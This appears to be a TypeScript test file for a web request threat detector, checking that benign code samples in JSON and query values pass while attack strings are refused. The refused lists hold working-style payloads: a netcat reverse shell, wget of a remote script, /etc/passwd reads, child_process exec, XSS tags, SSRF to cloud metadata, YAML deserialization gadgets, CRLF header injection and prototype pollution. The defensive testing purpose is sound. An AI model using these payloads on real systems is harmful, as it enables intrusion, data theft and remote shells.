/**
 * Code examples in JSON bodies: README and issue bodies carry Node snippets (`require('debug')('http')`,
 * `setTimeout(function () {`, `url: 'http://localhost:3000'`). The weak signs of code that an injection
 * also carries pass there; what runs or reads on the server (`child_process`, `require('fs')`,
 * `.exec(`, `eval(`), or a value that is an internal URL, is still refused.
 */
import { describe, expect, it } from "@effect/vitest"
import { Effect } from "effect"
import { ThreatDetector } from "../../src/ThreatDetector.js"
import { expectVerdicts as expectQueryVerdicts } from "./harness.js"

/** Each of `passing` passes and each of `refused` is refused, as the `body` field of a JSON document at the default level. */
const expectVerdicts = (passing: ReadonlyArray<string>, refused: ReadonlyArray<string>) =>
  Effect.gen(function*() {
    const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
    const refusedInJson = (body: string) =>
      Effect.map(
        detector.detect({
          path: "/api",
          headers: { "content-type": "application/json" },
          body: { kind: "json", text: JSON.stringify({ title: "Example", body }) }
        }),
        (result) => result.isThreat
      )
    for (const body of passing) expect(yield* refusedInJson(body), body).toBe(false)
    for (const body of refused) expect(yield* refusedInJson(body), body).toBe(true)
  })

describe("code examples in a JSON body", () => {
  it.effect("pass a package required and called on; a built-in that runs or reads still counts", () =>
    expectVerdicts([
      "var debug = require('debug')('http')\n  , http = require('http')\n  , name = 'My App';",
      "var types = require('pg').types",
      "const cli = require('cac')()\n\ncli.option('--type <type>', 'Choose a project type')",
      "var ui = require('./')({\n  width: 60\n})"
    ], [
      "require('fs').readFileSync('/etc/passwd')",
      "require('child_process').exec('id')",
      "require('shelljs').exec('id')",
      "require('vm').runInNewContext('this.constructor')",
      "require('http').get('http://203.0.113.9/x')"
    ]))

  it.effect("pass an anonymous function in a snippet of several lines; a one-line payload still counts", () =>
    expectVerdicts([
      "var timer = retimer(function () {\n  throw new Error('timeout')\n}, 20);\n\ntimer.reschedule(50);",
      "const promise = new Promise(function (resolve) {\n  setTimeout(function () {\n    resolve('done')\n  }, 100)\n})\n"
    ], [
      "db.stores.mapReduce(function() { { emit(1,1",
      "function() {\nreturn require('child_process').execSync('id');\n}\n",
      "setTimeout(function(){ eval(atob('YWxlcnQoMSk=')) },\n0);\nx();\ny();\n"
    ]))

  it.effect("pass `object` as a type argument or a documented type; a loading tag with an attribute still counts", () =>
    expectVerdicts([
      "class Cache extends WeakMap<object, Entry | boolean> {}",
      "export function keysOf(value: Record<string, unknown>): Promise<object> {\n  return load(value)\n}",
      "type Frames = Array<Frame>; const seen = new Set<object>()",
      "- `options` &lt;Object> Settings passed to the loader.\n- `name` &lt;string> The module name."
    ], [
      "<object data=//evil.example/x.swf>",
      "<iframe src=//evil.example></iframe>",
      "Map<object data=javascript:alert(1)>",
      "<embed/src=//evil.example/x.swf>",
      "<base href=//evil.example/>",
      "<object>alert(1)</object><script>alert(1)</script>"
    ]))

  it.effect("pass a relative file glob; a glob from the root, a separator or `../` still counts", () =>
    expectVerdicts([
      "const files = await glob(['lib/?/[a-z]*.js', 'test/**/*.test.ts'])",
      "// matches a/b/x and a/d/y\nfg.sync('a/[bd]/?/*', { onlyFiles: true })"
    ], ["/???/??t /???/p??s??", "cat /e??/p*d", ";/?in/[c]at /etc/passwd", "../../???/??t", "x=`/???/?d`"]))

  it.effect("pass a localhost URL inside code; a value that is an internal URL still counts", () =>
    expectVerdicts([
      "const exporter = new OTLPTraceExporter({\n  // url is optional - default is http://localhost:4318/v1/traces\n  headers: {},\n});",
      "autocannon({\n  url: 'http://localhost:3000',\n  connections: 10,\n}, console.log)"
    ], [
      "http://localhost:8080/admin",
      "http://169.254.169.254/latest/meta-data/",
      "gopher://127.0.0.1:6379/_FLUSHALL"
    ]))

  it.effect("pass YAML core-schema tags; a tag that builds a language object still counts", () =>
    expectVerdicts([
      "!!null ''    # null\n!!bool 'yes' # bool\n!!binary '...base64...' # buffer\n!!timestamp 'YYYY-...' # date\n!!set { a, b }",
      "ids: !!set\n  ? a\n  ? b"
    ], [
      "!!python/object/apply:os.system ['id']",
      "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.9/\"]]]]",
      "--- !ruby/object:Gem::Installer\ni: x"
    ]))

  it.effect("pass an object literal whose lines look like headers; a header line in a value still counts", () =>
    expectVerdicts([
      "mockPool.intercept({\n  path: '/foo',\n  headers: {\n    'user-agent': 'undici',\n    host: 'example.com'\n  }\n})",
      "console.log(parse('for=198.51.100.17;host=example.com'))\n// => [{\nfor: '198.51.100.17',\nhost: 'example.com'\n}]"
    ], [
      "en\r\nSet-Cookie: sid=attacker",
      "x\r\nLocation: http://203.0.113.9/"
    ]))

  it.effect("pass an object literal's own __proto__ key in JavaScript source; the key in data or a prototype path still counts", () =>
    expectVerdicts([
      "{\n  __proto__: \"inherited label\";\n}",
      "var sample = {\n  __proto__: 'a plain label',\n  size: 2\n};",
      "const b = { c: 3, __proto__: a };\nassert.equal(getProto({ __proto__: null }), null);",
      "const o = {\n  name: 'x',\n  __proto__ : base\n};"
    ], [
      "{\"__proto__\": {\"isAdmin\": true}}",
      "{\n  __proto__: {isAdmin: true}\n}",
      "__proto__:\n  isAdmin: true",
      // a `;` inside a comment ends no statement: JSON5 and YAML parsers skip it
      "{\n  __proto__: {isAdmin: true}, // ok;\n}",
      "__proto__:\n  isAdmin: true\nname: x # done;",
      "{\n  role: 'user', /* end; */\n  __proto__: {isAdmin: true}\n}",
      // a `key: value;` line is a YAML string, not a statement; an object value is never a code sample's
      "__proto__:\n  isAdmin: true\nname: x;",
      "const o = {\n  __proto__: {isAdmin: true}\n};",
      "x = {}; x.__proto__.polluted = 1;\ny();",
      "obj['__proto__']['admin'] = 1;\nf();"
    ]))

  it.effect("pass a shebang line and a JavaScript call named like a command; the command after them still counts", () =>
    expectVerdicts([
      "#!/usr/bin/env node\nconst yargs = require('yargs/yargs')\nyargs(process.argv.slice(2)).parse()",
      "var expand = require('brace-expansion')\n\nexpand('file-{a,b,c}.jpg')\n// => ['file-a.jpg', 'file-b.jpg', 'file-c.jpg']"
    ], [
      "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444",
      "expand('x');wget http://203.0.113.9/a.sh"
    ]))

  it.effect("pass settings read and a handler variable in a snippet; a page sink or an evaluated env dump still counts", () =>
    expectVerdicts([
      "var path = require('path')\nvar managePath = require('manage-path')\nvar alterPath = managePath(process.env)\nalterPath.unshift(path.join(process.cwd(), 'node_modules', '.bin'))",
      "const onResult = ({ glob, regex, input, output }) => {\n  console.log({ glob, regex, input, output });\n};\n\nconst isMatch = picomatch('*', { onResult });"
    ], [
      "';res.end(JSON.stringify(process.env));//",
      "\" onfocus=alert(document.domain) autofocus x=\""
    ]))
})

describe("code examples in a query value", () => {
  it.effect("pass object literals whose lines hold string literals; a header line, quoted or not, still counts", () =>
    expectQueryVerdicts([
      "javascript\nform.submit({\n  host: 'example.com',\n  path: '/surely.php'\n}, cb)",
      "var table = new Table({\n  chars: { 'top': '' , 'top-mid': ''\n         , 'bottom': '' }\n})",
      "const opts = {\n  method: \"POST\"\n}"
    ], [
      "en\r\nSet-Cookie: sid=attacker",
      "en\nSet-Cookie: 'sid=attacker'",
      "x\nContent-Length: \"0\"",
      "x\r\nLocation: http://203.0.113.9/",
      "x\nX-Forwarded-Host: evil.example"
    ]))

  it.effect("refuse a quoted header value outside an object literal, or after a CR line break", () =>
    expectQueryVerdicts([], [
      "en\r\nLocation: \"http://203.0.113.9/\"",
      "en\r\nContent-Type: 'text/html'",
      "en\r\nRefresh: '0; url=http://203.0.113.9/'",
      "x\r\nX-Forwarded-Host: \"evil.example\"",
      "en\nLocation: \"http://203.0.113.9/\"",
      "nl\nContent-Type: 'text/html'",
      // an object literal opened before, but the line broken with CR LF as a header is
      "x({\r\nLocation: \"http://203.0.113.9/\"",
      "cb(1)\r\nRefresh: '0; url=http://203.0.113.9/'"
    ]))
})

describe("a __proto__ object behind a commented `;`", () => {
  const payloads = [
    ["application/json5", "{\n  __proto__: {isAdmin: true}, // ok;\n}"],
    ["application/yaml", "__proto__:\n  isAdmin: true\nname: x # done;"]
  ] as const

  it.effect("is refused as a JSON5 or YAML body, a form field and a JSON string", () =>
    Effect.gen(function*() {
      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
      for (const [contentType, payload] of payloads) {
        const inputs = [
          { path: "/api/settings", headers: { "content-type": contentType }, body: { kind: "text", text: payload } },
          { path: "/api/settings", body: { kind: "form", text: `config=${encodeURIComponent(payload)}` } },
          { path: "/api/settings", body: { kind: "json", text: JSON.stringify({ config: payload }) } }
        ] as const
        for (const input of inputs) expect((yield* detector.detect(input)).isThreat, `${input.body.kind}: ${payload}`).toBe(true)
      }
    }))
})
